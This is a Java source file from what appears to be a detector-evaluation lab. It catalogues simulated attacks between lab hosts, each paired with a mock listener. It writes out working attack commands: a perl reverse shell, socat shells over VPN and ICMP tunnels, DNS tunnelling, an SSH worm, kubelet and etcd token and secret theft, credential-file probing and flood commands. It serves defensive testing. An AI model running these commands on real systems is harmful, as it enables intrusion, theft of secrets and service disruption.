package dev.weir.standalone.lab;

import static dev.weir.standalone.lab.AttackScripts.beacon;
import static dev.weir.standalone.lab.AttackScripts.dnsEnd;
import static dev.weir.standalone.lab.AttackScripts.repeated;
import static dev.weir.standalone.lab.AttackScripts.sshEnd;
import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
import static dev.weir.standalone.lab.AttackScripts.typed;
import static dev.weir.standalone.lab.LabHost.API;
import static dev.weir.standalone.lab.LabHost.BACKUP;
import static dev.weir.standalone.lab.LabHost.BASTION;
import static dev.weir.standalone.lab.LabHost.CI;
import static dev.weir.standalone.lab.LabHost.DB;
import static dev.weir.standalone.lab.LabHost.EVILA;
import static dev.weir.standalone.lab.LabHost.EVILB;
import static dev.weir.standalone.lab.LabHost.JOB;
import static dev.weir.standalone.lab.LabHost.KAPI;
import static dev.weir.standalone.lab.LabHost.NEW;
import static dev.weir.standalone.lab.LabHost.NODE;
import static dev.weir.standalone.lab.LabHost.OPS;
import static dev.weir.standalone.lab.LabHost.ORDERS;
import static dev.weir.standalone.lab.LabHost.SCANNER;
import static dev.weir.standalone.lab.LabHost.SENSOR;
import static dev.weir.standalone.lab.LabHost.USERC;
import static dev.weir.standalone.lab.LabHost.WEB;
import static dev.weir.standalone.lab.LabHost.WEBB;

import dev.weir.standalone.lab.LabAttack.Listener;

/** The fourth attacks by which detectors were judged before they were tuned on them. */
final class FourthJudgingAttacks extends AttackCatalogue {
    private static final String GUESSES = "for i in $(seq %d); do echo Spring$i; done > $FOLDER/tries-$$\n";

    /** A label of a name, of 48 characters that carry data. */
    private static final String LABEL = "$(head -c 30 /dev/urandom | base32 -w 0)";

    FourthJudgingAttacks() {
        super(false);
    }

    @Override
    void scans() {
        add("scan-masscan-outside", "masscan", SCANNER, 10, """
                ping -n -c 1 -W 0.2 10.60.7.9 >/dev/null; mac=$(ip neigh show 10.60.7.9 | sed 's/.*lladdr \\([^ ]*\\).*/\\1/')
                timeout 40 masscan --router-mac $mac --interface eth0 -p 2379,6443,10250 --rate 30 --wait 1 10.60.7.0/25
                """);
        // What an intruder writes where there is no scanner.
        add("scan-python-threads", "python3", API, 1, """
                python3 - $WEB $WEBB $ORDERS $DB $CACHE $BROKER $PROM 10.60.7.{1..5} 10.60.8.{1..3} <<'END'
                import socket, sys
                from concurrent.futures import ThreadPoolExecutor
                ports = [21, 22, 23, 25, 53, 80, 111, 389, 443, 445, 1433, 1521, 2049, 2181, 2375, 2379, 3000, 3306, 3389,
                         4194, 5000, 5432, 5601, 5672, 5984, 6379, 6443, 7001, 8000, 8080, 8443, 8500, 9000, 9042, 9090,
                         9092, 9200, 10250, 11211, 27017]
                def attempt(end):
                    try:
                        socket.create_connection(end, 0.2).close()
                    except OSError:
                        pass
                with ThreadPoolExecutor(20) as pool:
                    list(pool.map(attempt, [(host, port) for port in ports for host in sys.argv[1:]]))
                END
                """);
        add("scan-perl-day", "perl", BACKUP, 900, """
                perl -MIO::Socket::INET -MList::Util=shuffle -e '
                  for (shuffle((map { "10.60.7.$_" } 1 .. 40), @ARGV)) {
                    IO::Socket::INET->new(PeerAddr => "$_:3306", Timeout => 0.3);
                    select(undef, undef, undef, 0.6 + rand(0.4));
                  }' $WEB $API $ORDERS $DB $CACHE $BROKER
                """);
        // Asks for the names of a range of addresses, as one does for the services of a cluster.
        add("scan-dnsrecon-reverse", "dnsrecon", JOB, 2, """
                cd $FOLDER && timeout 45 dnsrecon -n $DNS --lifetime 1 --threads 2 -r 10.60.0.0/23
                """);
        add("scan-smbclient-shares", "smbclient", SENSOR, 10, """
                for i in $(shuf -i 1-40); do timeout 0.5 smbclient -N -t 1 -L //10.60.7.$i; sleep 0.4; done
                for h in $DB $WEB $API $BACKUP; do timeout 0.5 smbclient -N -t 1 -L //$h; sleep 0.4; done
                """);
    }

    @Override
    void webScans() {
        add("http-recon-wapiti", "wapiti", JOB, 1, """
                HOME=$FOLDER timeout 45 wapiti -u "http://$WEBB/items/3?sort=1" --scope page -S aggressive -v 0 \\
                  -m backup,exec,file,sql,xss -f txt -o $FOLDER/wapiti-$$
                """);
        add("http-recon-whatweb", "whatweb", SCANNER, 2, """
                timeout 45 whatweb -a 4 -t 2 --no-errors http://$WEB/ http://$WEBB/ http://$API:8080/
                """);
        // One connection for each file, so that each is seen although its name is not.
        add("http-recon-python-tls-slow", "python3", EVILB, 20, """
                timeout 48 python3 - $WEB $WEBB <<'END'
                import random, ssl, sys, time, urllib.request
                trust = ssl._create_unverified_context()
                paths = ['.env', '.git/HEAD', 'wp-login.php', 'actuator/env', 'phpinfo.php', 'server-status', 'backup.sql',
                         '.aws/credentials', 'id_rsa', 'config.json', 'debug/pprof', 'swagger.json', 'api/v1/pods',
                         'console', 'solr/', 'jenkins/', 'manager/html', 'cgi-bin/test', 'owa/', '.svn/entries', 'dump.tar',
                         'admin.php', 'graphql', 'metrics', 'vendor/phpunit', 'xmlrpc.php', 'login.action', 'struts/']
                ends = [f'https://{host}/{prefix}{path}' for host in sys.argv[1:] for prefix in ('', 'app/') for path in paths]
                random.shuffle(ends)
                for end in ends:
                    try:
                        urllib.request.urlopen(end, timeout=1, context=trust).read()
                    except OSError:
                        pass
                    time.sleep(random.uniform(0.2, 0.5))
                END
                """);
    }

    @Override
    void logins() {
        add(
                "bruteforce-smbclient",
                "smbclient",
                JOB,
                3,
                "for i in $(seq 50); do timeout 3 smbclient -L //$BACKUP -U backup%Spring$i; sleep 0.2; done",
                smbEnd(BACKUP, "backup"));
        add(
                "bruteforce-ldapwhoami",
                "ldapwhoami",
                CI,
                5,
                "for i in $(seq 120); do ldapwhoami -x -H ldap://$BASTION -D cn=admin,dc=lab -w Spring$i; sleep 0.15; done",
                new Listener(BASTION, """
                        mkdir -p $FOLDER/ldap
                        printf '%s\\n' 'include /etc/ldap/schema/core.schema' 'modulepath /usr/lib/ldap' 'moduleload back_mdb' \\
                          'database mdb' 'suffix dc=lab' 'rootdn cn=admin,dc=lab' 'rootpw none-guesses-it' \\
                          "directory $FOLDER/ldap" > $FOLDER/slapd.conf
                        exec slapd -d 0 -h ldap://$BASTION -f $FOLDER/slapd.conf
                        """));
        // As worms that live on cameras and sensors spread.
        add(
                "bruteforce-hydra-telnet",
                "hydra",
                EVILA,
                2,
                GUESSES.formatted(50) + "timeout 50 hydra -q -t 4 -l root -P $FOLDER/tries-$$ telnet://$SENSOR",
                new Listener(SENSOR, """
                        cat > $FOLDER/telnetd <<'END'
                        for i in 1 2 3; do
                          printf '\\r\\nsensor login: '; read -r user || exit
                          printf 'Password: '; read -r password || exit
                          sleep 0.4; printf '\\r\\nLogin incorrect\\r\\n'
                        done
                        END
                        exec socat tcp-listen:23,bind=$SENSOR,fork,reuseaddr exec:"bash $FOLDER/telnetd",pty,setsid,ctty,stderr
                        """));
        // A key that opens none of the accounts it is tried on.
        add("bruteforce-ssh-keys-slow", "ssh", NEW, 40, """
                ssh-keygen -q -t ed25519 -N '' -f $FOLDER/found-$$
                for user in root admin ubuntu git deploy jenkins ec2-user postgres; do
                  for h in $BASTION $API $ORDERS $WEBB; do
                    timeout 3 ssh -q -i $FOLDER/found-$$ -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no \\
                      -o UserKnownHostsFile=/dev/null $user@$h true
                    sleep 0.$((500 + RANDOM % 400))
                  done
                done
                """);
    }

    /** A server of files that knows a user with a password that none guesses. */
    private static Listener smbEnd(LabHost host, String user) {
        return new Listener(host, """
                mkdir -p $FOLDER/share-%1$s
                exec /usr/bin/python3 - $%2$s $FOLDER/share-%1$s <<'END'
                import sys
                from impacket.ntlm import compute_lmhash, compute_nthash
                from impacket.smbserver import SimpleSMBServer
                server = SimpleSMBServer(sys.argv[1], 445)
                server.addShare('VAULT', sys.argv[2])
                server.setSMB2Support(True)
                password = 'none-guesses-it'
                server.addCredential('%3$s', 0, compute_lmhash(password), compute_nthash(password))
                server.start()
                END
                """.formatted(host.host(), host.name(), user));
    }

    @Override
    void tunnels() {
        // Questions of changing types in hexadecimal, a second apart, and answers that carry as much.
        add("dns-tunnel-python-mixed", "python3", JOB, 4, """
                timeout 48 /usr/bin/python3 - $DNS <<'END'
                import os, random, sys, time
                import dns.exception, dns.message, dns.query
                for i in range(140):
                    data = os.urandom(random.choice([9, 9, 9, 50])).hex()
                    labels = '.'.join(data[j:j + 60] for j in range(0, len(data), 60))
                    question = dns.message.make_query(labels + '.tunnel.example', random.choice(['TXT', 'CNAME', 'MX']))
                    try:
                        dns.query.udp(question, sys.argv[1], timeout=1)
                    except dns.exception.DNSException:
                        pass
                    time.sleep(0.25)
                END
                """, new Listener(EVILA, """
                        exec /usr/bin/python3 - $EVILA <<'END'
                        import os, socket, sys
                        import dns.flags, dns.message, dns.rdatatype, dns.rrset
                        end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                        end.bind((sys.argv[1], 53))
                        while True:
                            packet, peer = end.recvfrom(4096)
                            question = dns.message.from_wire(packet)
                            answer = dns.message.make_response(question)
                            answer.flags |= dns.flags.AA
                            asked = question.question[0]
                            kind = dns.rdatatype.to_text(asked.rdtype)
                            data = os.urandom(24).hex()
                            values = {'TXT': f'"{data}"', 'CNAME': f'{data}.tunnel.example.',
                                      'MX': f'10 {data}.tunnel.example.'}
                            if kind in values:
                                answer.answer.append(dns.rrset.from_text(asked.name, 0, 'IN', kind, values[kind]))
                            end.sendto(answer.to_wire(), peer)
                        END
                        """));
        add(
                "dns-tunnel-dig-tcp",
                "dig",
                WEBB,
                10,
                repeated(
                        110,
                        "dig +tcp +short +tries=1 +time=1 @$EVILB TXT " + LABEL + "." + LABEL + "." + LABEL
                                + ".relay.example",
                        150,
                        40),
                dnsEnd(EVILB, "relay.example", "10.66.66.66"));
        // Without -r the client finds that it reaches the server itself, and wraps no more in questions.
        add("dns-tunnel-iodine-raw", "iodine", CI, 10, """
                timeout 28 iodine -f -P secret -d dnsr $EVILB relay.example & sleep 6
                for i in $(seq 15); do head -c 200000 /dev/urandom | timeout 3 ncat --send-only 10.95.0.1 9998; sleep 1; done
                wait
                """, new Listener(EVILB, """
                        socat -u tcp-listen:9998,fork,reuseaddr open:/dev/null &
                        exec iodined -f -c -P secret -d dnsq 10.95.0.1/24 relay.example
                        """));
        add(
                "dns-tunnel-kdig-tls",
                "kdig",
                API,
                15,
                repeated(
                        70,
                        "kdig +tls +short +retry=0 +timeout=2 @$EVILA TXT " + LABEL + "." + LABEL + ".tunnel.example",
                        350,
                        30),
                dnsEnd(EVILA, "tunnel.example", "10.66.66.66"),
                new Listener(
                        EVILA,
                        "exec socat openssl-listen:853,fork,reuseaddr,cert=$FOLDER/tls.crt,key=$FOLDER/tls.key,verify=0"
                                + " tcp:127.0.0.1:53"));
    }

    @Override
    void channels() {
        add(
                "c2-perl-shell",
                "perl",
                SENSOR,
                30,
                """
                timeout 45 perl -MSocket -e '
                  socket(S, PF_INET, SOCK_STREAM, 6);
                  connect(S, sockaddr_in(443, inet_aton($ARGV[0]))) or exit;
                  open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
                  exec "/bin/sh -i"' $EVILA
                """,
                new Listener(EVILA, typed(20, "id; ip addr; ls -l /etc") + " | ncat -l $EVILA 443"));
        // A bot that stays in a room of a chat server and says what it has done.
        add(
                "c2-ii-irc",
                "ii",
                WEBB,
                40,
                """
                ii -s $EVILB -p 6667 -n bot$$ -i $FOLDER/chat-$$ & sleep 2
                echo '/j #rooms' > $FOLDER/chat-$$/$EVILB/in; sleep 1
                """
                        + repeated(
                                22,
                                "timeout 1 sh -c \"echo \\\"$(uptime) done $i\\\" > '$FOLDER/chat-$$/$EVILB/#rooms/in'\"",
                                1_800,
                                50)
                        + "\nkill %1",
                new Listener(EVILB, """
                        printf '%s\\n' '[Global]' 'Name = rooms.example.net' "Listen = $EVILB" 'ServerUID = root' 'ServerGID = root' \\
                          '[Options]' 'DNS = no' 'Ident = no' 'PAM = no' > $FOLDER/ngircd.conf
                        exec ngircd -n -f $FOLDER/ngircd.conf
                        """));
        // Asks for a task; each tenth answer is one, and its result goes back.
        add("c2-python-tasked", "python3", ORDERS, 100, """
                timeout 48 python3 - $EVILB <<'END'
                import os, random, sys, time, urllib.request
                result = os.urandom(80)
                for i in range(70):
                    request = urllib.request.Request(f'http://{sys.argv[1]}:8080/submit.php?id={os.getpid()}', result)
                    request.add_header('User-Agent', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)')
                    try:
                        task = urllib.request.urlopen(request, timeout=1).read()
                        result = os.urandom(25000 if len(task) > 1000 else 80)
                    except OSError:
                        pass
                    time.sleep(random.uniform(0.45, 0.75))
                END
                """, new Listener(EVILB, """
                        exec python3 - $EVILB <<'END'
                        import os, random, sys
                        from http.server import BaseHTTPRequestHandler, HTTPServer
                        class Tasks(BaseHTTPRequestHandler):
                            def do_POST(self):
                                self.rfile.read(int(self.headers['Content-Length']))
                                task = os.urandom(random.choice([48] * 9 + [4000]))
                                self.send_response(200)
                                self.send_header('Content-Length', str(len(task)))
                                self.end_headers()
                                self.wfile.write(task)
                        HTTPServer((sys.argv[1], 8080), Tasks).serve_forever()
                        END
                        """));
        // Each request is held until there is a task or its time is over.
        add("c2-node-longpoll", "node", WEB, 60, """
                timeout 48 node -e '
                  const https = require("https");
                  const poll = n => n && https.get({host: process.argv[1], path: "/events?n=" + n, agent: false,
                      rejectUnauthorized: false, timeout: 4000}, answer => {
                    answer.resume(); answer.on("end", () => setTimeout(poll, 100, n - 1));
                  }).on("error", () => setTimeout(poll, 500, n - 1));
                  poll(35)' $EVILA
                """, new Listener(EVILA, """
                        cd $FOLDER && exec node -e '
                          const fs = require("fs");
                          require("https").createServer({key: fs.readFileSync("tls.key"), cert: fs.readFileSync("tls.crt")},
                            (request, answer) => setTimeout(() => answer.end("none"), Math.random() < 0.8 ? 1200 : 300))
                            .listen(443, process.argv[1])' $EVILA
                        """));
        add("c2-curl-day", "curl", OPS, 900, beacon("https://$EVILB:443/updates", 42, 850, 25), tlsEnd(EVILB, 443));
        // Looks for the name that is alive today among many that do not exist, then connects to its address.
        add("c2-dig-dga", "dig", BACKUP, 60, """
                ends=(com net info biz)
                for day in $(seq 7); do
                  for i in $(seq 18); do
                    dig +short +tries=1 +time=1 @$DNS $(head -c 300 /dev/urandom | tr -dc a-z | head -c 13).${ends[RANDOM % 4]}
                    sleep 0.05
                  done
                  curl -sk -m 2 -o /dev/null https://$EVILA/gate; sleep 3.$((RANDOM % 9))
                done
                """, tlsEnd(EVILA, 443));
        // The server has been taken away, and what comes to its port is dropped.
        add("c2-dead-python-silent", "python3", DB, 60, """
                timeout 48 python3 - $SCANNER <<'END'
                import random, socket, sys, time
                for i in range(70):
                    try:
                        socket.create_connection((sys.argv[1], 4443), 0.25).close()
                    except OSError:
                        pass
                    time.sleep(random.uniform(0.2, 0.5))
                END
                """, new Listener(SCANNER, """
                        nft 'add table ip dead; add chain ip dead in { type filter hook input priority 0; }
                          add rule ip dead in tcp dport 4443 drop'
                        trap 'nft delete table ip dead' EXIT
                        sleep 90 & wait
                        """));
        // Orders and results go through the cluster's own broker.
        add(
                "c2-inside-mosquitto",
                "mosquitto_pub",
                CI,
                60,
                """
                timeout 46 mosquitto_sub -h $BROKER -t agents/ci/orders &
                """
                        + repeated(
                                50,
                                "mosquitto_pub -h $BROKER -t agents/ci/results -m \"$(uname -a) $RANDOM\"",
                                750,
                                30));
        add(
                "c2-openvpn-tcp",
                "openvpn",
                API,
                60,
                """
                timeout 46 openvpn --dev vpnc --dev-type tun --proto tcp-client --remote $EVILA 443 --ifconfig 10.94.0.2 10.94.0.1 \\
                  --secret $FOLDER/vpn.key --cipher AES-256-CBC --ping 3 & sleep 4
                timeout 38 socat tcp:10.94.0.1:7780 exec:/bin/sh
                kill %1
                """,
                new Listener(EVILA, """
                        openvpn --genkey secret $FOLDER/vpn.key
                        openvpn --dev vpns --dev-type tun --proto tcp-server --local $EVILA --port 443 \\
                          --ifconfig 10.94.0.1 10.94.0.2 --secret $FOLDER/vpn.key --cipher AES-256-CBC --ping 3 &
                        """ + typed(18, "id; ls -l /; ps") + " | ncat -l 7780; kill %1"));
        // The pod opens the way, and someone outside goes it to the other pods.
        add("c2-ssh-reverse-socks", "ssh", JOB, 20, """
                timeout 46 ssh $SSH -R 1080 root@$EVILB 'sleep 40'
                """, sshEnd(EVILB), new Listener(EVILB, """
                        sleep 5
                        for url in $WEB/ $WEBB/admin/ $API:8080/metrics $API:8080/items/1 $CACHE:6379 $PROM:9090 $WEB/metrics \\
                            $ORDERS:8080 $BACKUP:873 $WEBB/index.html; do
                          curl -s -m 2 --socks5 127.0.0.1:1080 http://$url; sleep 2.$((RANDOM % 9))
                        done
                        """));
        add(
                "c2-icmptx-shell",
                "icmptx",
                OPS,
                30,
                """
                icmptx -c $EVILB & sleep 1
                ip addr add 10.93.0.2 peer 10.93.0.1 dev tun0; ip link set tun0 mtu 900 up
                timeout 42 socat tcp:10.93.0.1:7781 exec:/bin/sh
                kill %1
                """,
                new Listener(EVILB, """
                        sysctl -q -w net.ipv4.icmp_echo_ignore_all=1
                        trap 'sysctl -q -w net.ipv4.icmp_echo_ignore_all=0' EXIT
                        icmptx -s $EVILB & sleep 1
                        ip addr add 10.93.0.1 peer 10.93.0.2 dev tun0; ip link set tun0 mtu 900 up
                        """ + typed(20, "id; cat /etc/passwd") + " | ncat -l 7781; kill %1"));
    }

    @Override
    void transfers() {
        add("exfil-restic", "restic", DB, 1, """
                mkdir $FOLDER/loot-$$ && for i in $(seq 12); do head -c 5000000 /dev/urandom > $FOLDER/loot-$$/$i; done
                export RESTIC_PASSWORD=theirs HOME=$FOLDER
                restic -q --no-cache -r rest:http://$EVILA:8000/ init
                timeout 45 restic -q --no-cache -r rest:http://$EVILA:8000/ backup $FOLDER/loot-$$
                rm -r $FOLDER/loot-$$
                """, new Listener(EVILA, """
                        mkdir -p $FOLDER/kept
                        exec rclone --config /dev/null serve restic --addr $EVILA:8000 $FOLDER/kept
                        """));
        add("exfil-s3cmd-throttled", "s3cmd", CI, 20, """
                for i in $(seq 12); do head -c 2500000 /dev/urandom > $FOLDER/part-$$-$i; done
                timeout 46 s3cmd -q -c /dev/null --access_key=theirs --secret_key=theirs --host=$EVILB:9000 \\
                  --host-bucket=$EVILB:9000 --no-ssl --no-mime-magic --disable-multipart --limit-rate=1m \\
                  put $FOLDER/part-$$-* s3://drop/
                rm $FOLDER/part-$$-*
                """, new Listener(EVILB, """
                        exec python3 - $EVILB <<'END'
                        import hashlib, sys
                        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
                        class Bucket(BaseHTTPRequestHandler):
                            protocol_version = 'HTTP/1.1'
                            def do_GET(self):
                                region = b'<LocationConstraint xmlns="http://s3.amazonaws.com/doc/2006-03-01/"/>'
                                self.send_response(200)
                                self.send_header('Content-Length', str(len(region)))
                                self.end_headers()
                                self.wfile.write(region)
                            def do_PUT(self):
                                if self.headers.get('Expect'):
                                    self.send_response_only(100)
                                    self.end_headers()
                                taken = self.rfile.read(int(self.headers['Content-Length']))
                                self.send_response(200)
                                self.send_header('ETag', '"' + hashlib.md5(taken).hexdigest() + '"')
                                self.send_header('Content-Length', '0')
                                self.end_headers()
                        ThreadingHTTPServer((sys.argv[1], 9000), Bucket).serve_forever()
                        END
                        """));
        add("exfil-swaks", "swaks", ORDERS, 20, """
                head -c 3000000 /dev/urandom > $FOLDER/export-$$.zip
                for i in $(seq 12); do
                  timeout 8 swaks --helo mail.shop.example -f orders@shop.example -t box@relay.example --server $EVILA --port 25 \\
                    --hide-all --attach @$FOLDER/export-$$.zip
                  sleep 1
                done
                rm $FOLDER/export-$$.zip
                """, new Listener(EVILA, """
                        exec /usr/bin/python3 - $EVILA <<'END'
                        import asyncore, smtpd, sys
                        class Box(smtpd.SMTPServer):
                            def process_message(self, *args, **kwargs):
                                pass
                        Box((sys.argv[1], 25), None, data_size_limit=0)
                        asyncore.loop()
                        END
                        """));
        // A host outside that has a key opens the connection, so that the answer is what leaves.
        add(
                "exfil-sftp-pull-outside",
                "sftp",
                EVILB,
                2,
                """
                timeout 40 sftp -q $SSH -l 60000 root@$BASTION:$FOLDER/archive.tar /dev/null
                """,
                new Listener(BASTION, "head -c 80000000 /dev/urandom > $FOLDER/archive.tar; sleep 60"));
        add(
                "exfil-socat-udp-dns-port",
                "socat",
                NEW,
                30,
                repeated(
                        40, "head -c 400000 /dev/urandom | timeout 3 socat -u -b 1200 - udp-sendto:$EVILB:53", 600, 30),
                new Listener(EVILB, "exec socat -u udp-recv:53,reuseaddr open:/dev/null"));
    }

    @Override
    void floods() {
        // Reads the answers so slowly that the server's connections run out.
        add("ddos-slow-read", "slowhttptest", EVILB, 2, """
                timeout 30 slowhttptest -X -c 300 -r 100 -w 512 -y 1024 -n 4 -z 32 -k 3 -u http://$WEBB/shop/page9 -p 3 -l 20
                """);
        add("ddos-openssl-handshakes", "openssl", USERC, 1, """
                for i in 1 2 3; do timeout 9 openssl s_time -connect $WEBB:443 -new -time 7 & done; wait
                """);
        add(
                "ddos-pgbench-connects",
                "pgbench",
                CI,
                1,
                "timeout 9 pgbench -n -C -S -c 40 -T 7 -h $DB -U postgres postgres");
        add("ddos-ping", "ping", SENSOR, 1, "ping -n -q -i 0.001 -c 8000 -s 1000 $WEB");
    }

    @Override
    void lateral() {
        add("lateral-ansible", "ansible", JOB, 10, """
                export HOME=$FOLDER/home-$$ ANSIBLE_HOST_KEY_CHECKING=False LC_ALL=C.UTF-8
                for run in '-m command -a id' '-m setup' '-m shell -a "cat /etc/passwd; sleep 2"'; do
                  eval "timeout 22 ansible all -f 2 -T 2 -i $API,$ORDERS,$WEBB,$BASTION, -u root --private-key $FOLDER/key $run"
                done
                """);
        // Tries its key on hosts in random order, copies itself to those that it opens and starts there.
        add("lateral-python-worm", "python3", SENSOR, 10, """
                timeout 48 /usr/bin/python3 - $FOLDER $API $ORDERS $WEBB $BASTION 10.60.7.{1..12} <<'END'
                import os, random, sys, time
                import paramiko
                folder, hosts = sys.argv[1], sys.argv[2:]
                random.shuffle(hosts)
                for host in hosts:
                    client = paramiko.SSHClient()
                    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
                    try:
                        client.connect(host, username='root', key_filename=folder + '/key', timeout=2)
                        with client.open_sftp() as files:
                            with files.open(f'{folder}/worm-{host}', 'wb') as copy:
                                copy.write(os.urandom(90000))
                        client.exec_command('id; uname -a; sleep 3')[1].read()
                    except (OSError, paramiko.SSHException):
                        pass
                    client.close()
                    time.sleep(0.5)
                END
                """);
        // The node's agent runs commands in its pods for whom it does not ask for a token.
        add(
                "lateral-curl-kubelet",
                "curl",
                WEB,
                10,
                """
                curl -sk -m 2 https://$NODE:10250/pods; sleep 2
                for pod in shop/web shop/api shop/orders data/postgres data/redis ops/toolbox batch/ci; do
                  for command in id 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'; do
                    curl -sk -m 2 -X POST https://$NODE:10250/run/$pod-0/main -d "cmd=$command"; sleep 1
                  done
                done
                """,
                tlsEnd(NODE, 10_250, "id; head -c 1500 /dev/urandom | base64"));
        add("lateral-etcdctl", "etcdctl", ORDERS, 10, """
                keys() { timeout 4 etcdctl --endpoints=http://$KAPI:2379 "$@"; sleep 1; }
                keys endpoint status; keys member list; keys get / --prefix --keys-only
                for i in $(seq 8); do keys get /registry/secrets/shop/secret-$i; done
                keys get /registry/ --prefix
                keys put /registry/clusterrolebindings/theirs cluster-admin
                """, new Listener(KAPI, """
                        etcd --data-dir $FOLDER/etcd --listen-client-urls http://$KAPI:2379 --advertise-client-urls http://$KAPI:2379 \\
                          --listen-peer-urls http://127.0.0.1:2380 & sleep 1
                        for i in $(seq 8); do
                          head -c 3000 /dev/urandom | base64 | etcdctl --endpoints=http://$KAPI:2379 put /registry/secrets/shop/secret-$i
                        done
                        wait
                        """));
    }
}
